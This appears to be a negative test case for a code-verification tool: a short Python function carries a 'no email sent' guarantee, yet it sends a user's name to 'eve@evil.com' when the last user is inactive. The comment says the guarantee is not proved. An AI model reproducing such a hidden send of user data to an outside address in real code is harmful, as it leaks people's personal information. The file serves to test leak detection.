# not proved: the last round leaves one or the other beside the name
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, users


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    last = ("", None)
    for user in users():
        last = (user.name, None if user.active else user.email)
    if last[1] is not None:
        send_email("eve@evil.com", last[0])
